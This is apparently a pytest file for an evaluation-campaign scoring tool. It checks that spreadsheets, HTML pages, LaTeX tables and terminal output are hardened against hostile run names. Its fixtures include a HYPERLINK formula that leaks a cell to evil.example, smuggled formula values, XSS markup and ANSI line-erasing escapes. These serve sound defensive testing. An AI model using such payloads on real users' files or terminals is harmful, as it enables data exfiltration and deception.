"""What the campaign wing writes is safe to open, and what it reads back costs what its size says.

Each test is a finding of the campaign review, failing on the code before it: formulas in the spreadsheets the docs
tell organisers to open, JSON that ends its <script> element, LaTeX that hangs pdflatex or prints the wrong glyphs,
U+2028 in a team name that broke `runscore judgements`, JSON integers that cost minutes on the scoring image's
Python 3.9, a zip in a zip that the platform accepts and the pool refused, and a judgement sheet of a million rows.
Every command is called in process (runscore.cli.main); the browser test of the page is in
test_campaign_assess_page.py.
"""
import csv
import io
import os
import resource
import shutil
import subprocess
import sys
import zipfile

import pytest

from conftest import ROOT
from runscore.campaign.sheet import read_sheet, write_sheet
from runscore.cli import main

FORMULA = ("=", "+", "-", "@")


def cpu_seconds() -> float:
    usage = resource.getrusage(resource.RUSAGE_SELF)
    return usage.ru_utime + usage.ru_stime


def cells_of_tsv(path):
    with open(path, encoding="utf-8") as handle:
        return [cell for line in handle.read().split("\n") for cell in line.split("\t")]


def cells_of_csv(path):
    with open(path, encoding="utf-8", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def starts_a_formula(cell: str) -> bool:
    """A text cell a spreadsheet would evaluate (a number such as -0.5 is a number, not a formula), also once a
    spreadsheet set to another separator splits it at a comma, a semicolon or a quote (OWASP: an attacker "could
    use this to start a new cell and then have the dangerous character in the middle of the user input")."""
    if cell[:1] not in FORMULA and not any(cell[at + 1:at + 2] in FORMULA for at, ch in enumerate(cell)
                                           if ch in ',;"'):
        return False
    try:
        float(cell)
        return False
    except ValueError:
        return True


# ------------------------------------------------------------------------------------------ spreadsheets ---

HOSTILE_DOCS = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1:A9)", "'quoted", "plain",
                'x;=HYPERLINK("http://evil.example/?"&A1)', "y,@SUM(A1:A9)", 'z"-2+3', "w;'=x"]


def hostile_tir(tmp_path):
    run = tmp_path / "tir_-team"
    run.write_text("".join("001p\t%d\t%s\t-team\t=cmd_run1\n" % (rank, doc)
                           for rank, doc in enumerate(HOSTILE_DOCS, 1)), encoding="utf-8")
    return run


def test_pool_files_neutralise_formulas_and_judgements_read_the_ids_back(tmp_path):
    out = str(tmp_path / "pool")
    assert main(["pool", "--task", "temporalia-tir", "--depth", "10", str(hostile_tir(tmp_path)), "-o", out]) == 0
    for name in ("pool.tsv", "runs.tsv"):
        cells = cells_of_tsv(os.path.join(out, name))
        assert not [c for c in cells if starts_a_formula(c)], (name, cells)
    assert "'=cmd_run1" in cells_of_tsv(os.path.join(out, "runs.tsv"))
    columns, rows = read_sheet(os.path.join(out, "pool.tsv"))
    assert sorted(r.values["item"] for r in rows) == sorted(HOSTILE_DOCS)       # read back as they were
    sheet = str(tmp_path / "labels.tsv")
    write_sheet(sheet, columns, [dict(r.values, label="L1") for r in rows])
    ref = str(tmp_path / "ref")
    assert main(["judgements", "--task", "temporalia-tir", "--pool", os.path.join(out, "pool.tsv"), sheet,
                 "-o", ref]) == 0
    qrels = open(os.path.join(ref, "qrels.txt"), encoding="utf-8").read().split("\n")
    assert {"001p %s L1" % d for d in HOSTILE_DOCS if " " not in d} <= set(qrels)


def test_a_spreadsheet_that_dropped_the_quote_on_saving_still_matches_the_pool(tmp_path):
    from runscore.campaign.safe_output import neutralise_cell, restore_cell

    for text in HOSTILE_DOCS + ["", "'", "''x", "\t=x", '"=x"', "\u2028", "a,'=b", ";", ",=", "'\"=x"]:
        assert restore_cell(neutralise_cell(text)) == text
        assert restore_cell(text) == text or "'" in text     # a quote of the text itself is told by the mark
    out = str(tmp_path / "pool")
    assert main(["pool", "--task", "temporalia-tir", "--depth", "10", str(hostile_tir(tmp_path)), "-o", out]) == 0
    lines = open(os.path.join(out, "pool.tsv"), encoding="utf-8").read().split("\n")
    saved = [lines[0]]
    for line in lines[1:-1]:      # a spreadsheet shows '=x as =x, and saves it so; the label typed in the last cell
        cells = [c[1:] if c.startswith("'") else c for c in line.split("\t")]
        saved.append("\t".join(cells[:-1] + ["L0"]))
    sheet = tmp_path / "saved.tsv"
    sheet.write_text("\n".join(saved) + "\n", encoding="utf-8")
    ref = str(tmp_path / "ref")
    assert main(["judgements", "--task", "temporalia-tir", "--pool", os.path.join(out, "pool.tsv"), str(sheet),
                 "-o", ref]) == 0


def test_report_csv_files_neutralise_formulas(tmp_path):
    ref = os.path.join(ROOT, "reference_data", "temporalia-tir")
    sample = open(os.path.join(ROOT, "starting_kit", "sample_submission", "temporalia-tir", "tir_sample"),
                  encoding="utf-8").read()
    runs = []
    for name in ("=evil", "@other", "x;=cmd"):
        path = tmp_path / ("tir_%s" % name)
        path.write_text(sample.replace("\tsample\t", "\t%s\t" % name).replace("sample_run", "%s_run" % name),
                        encoding="utf-8")
        runs.append(str(path))
    out = str(tmp_path / "report")
    assert main(["report", "--task", "temporalia-tir", "--ref", ref, "--pool-depth", "5", "--trials", "20",
                 "--tau-bootstrap", "0"] + runs + ["-o", out]) == 0
    for name in ("means.csv", "pool.csv", "significance.csv"):
        cells = cells_of_csv(os.path.join(out, name))
        assert not [c for c in cells if starts_a_formula(c)], (name, cells)
    assert "'=evil_run1" in cells_of_csv(os.path.join(out, "means.csv"))
    assert "x;'=cmd_run1" in cells_of_csv(os.path.join(out, "means.csv"))


# ------------------------------------------------------------------------------------------ pages ---

def test_json_for_a_script_element_escapes_what_the_html_tokenizer_reads():
    import json

    from runscore.campaign.safe_output import json_for_script

    value = {"a": "<!--<script></script>&amp; \u2028\u2029 > done"}
    text = json_for_script(value)
    assert not set(text) & set("<>&\u2028\u2029")
    assert json.loads(text) == value


def test_report_page_shows_hostile_names_as_text(tmp_path):
    """report.html holds no script; names with markup stay text (escaped by overview_html)."""
    from html.parser import HTMLParser

    ref = os.path.join(ROOT, "reference_data", "qqa23-mrc")
    sample = os.path.join(ROOT, "starting_kit", "sample_submission", "qqa23-mrc", "sample_run01.json")
    runs = []
    for name in ("evil<!--<script>_run01.json", "x<svg onload=alert(1)>&amp;_run01.json"):
        runs.append(str(tmp_path / name))
        shutil.copy(sample, runs[-1])
    out = str(tmp_path / "report")
    assert main(["report", "--task", "qqa23-mrc", "--ref", ref, "--trials", "20", "--tau-bootstrap", "0"] + runs +
                ["-o", out]) == 0

    class Tags(HTMLParser):
        def __init__(self):
            super().__init__()
            self.tags, self.text = [], []

        def handle_starttag(self, tag, attrs):
            self.tags.append(tag)

        def handle_data(self, data):
            self.text.append(data)

    parsed = Tags()
    parsed.feed(open(os.path.join(out, "report.html"), encoding="utf-8").read())
    assert "script" not in parsed.tags
    assert any("evil<!--<script>_run01" in t for t in parsed.text)


# ------------------------------------------------------------------------------------------ LaTeX ---

HOSTILE_NAMES = ["[evil", "*star", "a<b>c", "Müller", "Øre-Łódź", "中文", "x\u2028y", "a--b", 'q"uote|bar',
                 "\x01ctl", "ệ", "😀", "~^\\&%$#_{}", "[", "*"]


def test_latex_escape_for_each_place_a_name_stands():
    from runscore.campaign.latex import escape

    assert escape("[evil") == "{}[evil"                       # after \\ or \midrule, `[` opens an optional argument
    assert escape("*x") == "{}*x"                             # `\\*` is a row end without a page break
    assert escape("a<b>c") == r"a\textless{}b\textgreater{}c"   # OT1 prints < and > as ¡ and ¿
    assert escape("a--b") == "a-{}-b"
    assert escape("Müller") == r'M\"{u}ller' and escape("é") == r"\'{e}" and escape("ï") == r'\"{\i}'
    assert escape("中") == r"\texttt{U+4E2D}" and escape("\u2028") == r"\texttt{U+2028}"
    assert all(" " <= ch <= "~" for name in HOSTILE_NAMES for ch in escape(name))


@pytest.mark.skipif(shutil.which("pdflatex") is None, reason="pdflatex is not installed")
@pytest.mark.parametrize("preamble", ["", r"\usepackage[T1]{fontenc}"])
def test_latex_rows_of_hostile_names_compile_after_a_rule(tmp_path, preamble):
    """A run named `[...` right after \\midrule hung pdflatex; every name here compiles, in OT1 and T1."""
    from runscore.campaign.latex import breakable, escape

    # Rows as the means and pairs tables write them: each name first in its row, right after \\midrule or \\\\.
    rows = ["%s & %s \\\\" % (escape(n), breakable(n * 8)) for n in HOSTILE_NAMES]
    table = "\n".join(["\\begin{tabular}{ll}", "\\toprule", "Run & Team \\\\", "\\midrule"] + rows +
                      ["\\bottomrule", "\\end{tabular}"])
    (tmp_path / "t.tex").write_text("\\documentclass{article}%s\\usepackage{booktabs}\\begin{document}\n%s"
                                    "\\end{document}\n" % (preamble, table), encoding="utf-8")
    try:
        done = subprocess.run(["pdflatex", "-interaction=nonstopmode", "-halt-on-error", "t.tex"], cwd=str(tmp_path),
                              capture_output=True, text=True, timeout=60)
    except subprocess.TimeoutExpired:
        pytest.fail("pdflatex hung on the table")
    assert done.returncode == 0, [line for line in done.stdout.splitlines() if line.startswith("!")]


# ------------------------------------------------------------------------------------------ line ends ---

def test_a_line_separator_in_an_r2c2_ac_team_name_does_not_break_judgements(tmp_path):
    """runs.tsv was read with str.splitlines(), which ends a line at U+2028: the whole campaign's judgements
    failed. The wing's files are split on \\n only."""
    team = "Team\u2028Two\u0085Three"
    folder = tmp_path / "runs"
    folder.mkdir()
    (folder / ("%s-AC-1" % team)).write_text("<D0001>An answer;80\n1;%s-PG-1;1;a nugget\n</D0001>\n" % team,
                                             encoding="utf-8")
    (folder / ("%s-PG-1" % team)).write_text("0001;1;D1;the passage\n", encoding="utf-8")
    out = str(tmp_path / "pool")
    assert main(["pool", "--task", "r2c2-ac", str(folder), "-o", out]) == 0
    columns, rows = read_sheet(os.path.join(out, "pool.tsv"))
    assert {r.values["run_names"] for r in rows} == {"%s-AC-1" % team}
    sheet = str(tmp_path / "labels.tsv")
    write_sheet(sheet, columns, [dict(r.values, label="1") for r in rows])
    ref = str(tmp_path / "ref")
    assert main(["judgements", "--task", "r2c2-ac", "--pool", os.path.join(out, "pool.tsv"), sheet,
                 "-o", ref]) == 0
    labels = open(os.path.join(ref, "ac_answer_labels.tsv"), encoding="utf-8").read().split("\n")
    assert labels[1] == "%s-AC-1\t0001\t1" % team


# ------------------------------------------------------------------------------------------ sizes ---

@pytest.fixture
def no_int_limit():
    """The scoring image's Python 3.9 predates the int-string limit (4,300 digits) of newer builds."""
    if not hasattr(sys, "set_int_max_str_digits"):
        yield
        return
    before = sys.get_int_max_str_digits()
    sys.set_int_max_str_digits(0)
    try:
        yield
    finally:
        sys.set_int_max_str_digits(before)


def test_a_huge_json_integer_is_refused_before_conversion(tmp_path, capsys, no_int_limit):
    digits = 400000                 # int() of these digits costs over a second, and grows with their square
    run = tmp_path / "bigIR_run01.json"
    run.write_text('{\n "901:1-3_001": [\n  {"answer": "x", "rank": 1, "score": %s,\n   "strt_token_indx": 0, '
                   '"end_token_indx": 0}]}\n' % ("7" * digits))
    before = cpu_seconds()
    assert main(["validate", "--task", "qqa23-mrc", str(run)]) == 1
    assert cpu_seconds() - before < 1.0
    assert "%s:3: error: not a usable run: a number has %d digits before its point, more than the 18 allowed" \
        % (run, digits) in capsys.readouterr().err


@pytest.mark.parametrize("number", ["1" * 19, "-" + "9" * 19, "1" * 19 + ".5", "12345678901234567890e3"])
def test_every_json_reader_refuses_numbers_past_18_digits(tmp_path, capsys, number, no_int_limit):
    from runscore.errors import ConfigError
    from runscore.tasks import get_task
    from runscore.tasks.datasearch_qa import read_gold as datasearch_gold
    from runscore.tasks.qqa23.gold import read_gold as qqa_gold

    gold = tmp_path / "gold.jsonl"
    gold.write_text('{"pq_id": "1:1-1_1", "passage": "a b", "answers": [{"text": "a", "start_char": %s}]}\n'
                    % number)
    with pytest.raises(ConfigError, match="more than the 18 allowed"):
        qqa_gold(str(gold))
    gold.write_text('{"qid": "DS2-QA-E-1", "answers": ["a"], "n": %s}\n' % number)
    with pytest.raises(ConfigError, match="more than the 18 allowed"):
        datasearch_gold(str(gold))
    assert get_task("qqa23-mrc")         # the run reader: test_a_huge_json_integer_is_refused_before_conversion
    assert "Traceback" not in capsys.readouterr().err


def test_a_zip_in_a_zip_in_the_upload_is_pooled_as_the_platform_accepts_it(tmp_path):
    """The platform unpacks the upload into input/res and score.py opens two levels of zips below it; the pool read
    the download itself as a third level and refused the whole pool."""
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as archive:
        archive.writestr("tir_g", "001p\t1\tD1\tg\tg_run1\n")
    middle = io.BytesIO()
    with zipfile.ZipFile(middle, "w") as archive:
        archive.writestr("b.zip", inner.getvalue())
    upload = tmp_path / "upload.zip"
    with zipfile.ZipFile(str(upload), "w") as archive:
        archive.writestr("a.zip", middle.getvalue())
    assert main(["check", "--task", "temporalia-tir", str(upload)]) == 0          # the platform's own verdict
    download = tmp_path / "5_alice_PhaseId3_2026-05-01:10-22_upload.zip"
    shutil.copy(str(upload), str(download))
    out = str(tmp_path / "pool")
    assert main(["pool", "--task", "temporalia-tir", "--depth", "5", str(download), "-o", out]) == 0
    assert [r.values["item"] for r in read_sheet(os.path.join(out, "pool.tsv"))[1]] == ["D1"]


def test_a_sheet_of_rows_not_in_the_pool_is_given_up_in_one_pass(tmp_path, capsys):
    """A judgement sheet of a million rows not in the pool took 48.6 s and 1.31 GB: every row was kept and told.
    Now a sheet is read row by row, the first rows not in the pool are told, and past 1,000 of them the sheet is
    given up as another pool's."""
    run = tmp_path / "tir_g"
    run.write_text("".join("001p\t%d\tD%d\tg\tg_run1\n" % (r, r) for r in range(1, 4)))
    out = str(tmp_path / "pool")
    assert main(["pool", "--task", "temporalia-tir", "--depth", "3", str(run), "-o", out]) == 0
    sheet = tmp_path / "foreign.tsv"
    with open(str(sheet), "w", encoding="utf-8") as handle:
        handle.write(open(os.path.join(out, "pool.tsv"), encoding="utf-8").read().replace("\t\n", "\tL1\n"))
        handle.write("".join("001p\tX%d\t1\t1\t1\tg_run1\tL1\n" % k for k in range(200000)))
    before = cpu_seconds()
    assert main(["judgements", "--task", "temporalia-tir", "--pool", os.path.join(out, "pool.tsv"), str(sheet),
                 "-o", str(tmp_path / "ref")]) == 2
    assert cpu_seconds() - before < 2.0
    err = capsys.readouterr().err
    assert "%s:1005: error: more than 1000 rows of this sheet are not in the pool (980 of them not listed above); " \
           "it is not a sheet of this pool, and reading stopped here" % sheet in err
    assert err.count("the item is not in the pool") == 20


def test_limits_doc_gives_the_sheet_cap_the_code_applies():
    from runscore.campaign.judgements import MAX_ROWS_NOT_IN_POOL, SHOWN_NOT_IN_POOL

    with open(os.path.join(ROOT, "docs", "limits.md"), encoding="utf-8") as handle:
        text = " ".join(handle.read().split())
    assert "the first %d told one by one, and past %s the sheet is given up" % (
        SHOWN_NOT_IN_POOL, "{:,}".format(MAX_ROWS_NOT_IN_POOL)) in text


# ------------------------------------------------------------------------------------------ the terminal ---

def test_names_print_no_terminal_controls(tmp_path, capsys):
    """A run name is the participant's word, and `runscore pool` and `report` print names to the organiser's
    terminal: `ESC[1A ESC[2K` erased the line above (a warning about that very run), and so does the one-byte CSI
    (U+009B) of some terminals. Every control character a command prints of a name is written as an escape
    (`\\x1b`), as the diagnostics' are."""
    hostile = "ntc\x1b[1A\x1b[2K\x9b2J\x7f9"
    runs = []
    for name in (hostile, "ntc1"):
        path = tmp_path / ("run%d" % len(runs))
        path.write_text("".join("00%d\t0\tgakkai-000000000%d\t%d\t%d\t%s\n" % (t, r, r, 10 - r, name)
                                for t in (31, 32) for r in range(1, 4)), encoding="utf-8")
        runs.append(str(path))
    runs.append(str(tmp_path / "run0"))                           # the same run given twice: a note names it
    assert main(["pool", "--task", "ntcir1-adhoc", "--depth", "3", "--allow-same-names"] + runs +
                ["-o", str(tmp_path / "pool")]) == 0
    shown = capsys.readouterr()
    for control in ("\x1b", "\x9b", "\x7f"):
        assert control not in shown.out + shown.err, repr(control)
    assert "ntc\\x1b[1A\\x1b[2K\\x9b2J\\x7f9" in shown.out
    ref = os.path.join(ROOT, "reference_data", "ntcir1-adhoc")
    assert main(["report", "--task", "ntcir1-adhoc", "--ref", ref, "--trials", "20", "--tau-bootstrap", "0",
                 "--allow-same-names"] + runs + ["-o", str(tmp_path / "report")]) == 0
    shown = capsys.readouterr()
    assert "ntc\\x1b[1A" in shown.err and not [c for c in ("\x1b", "\x9b", "\x7f") if c in shown.out + shown.err]
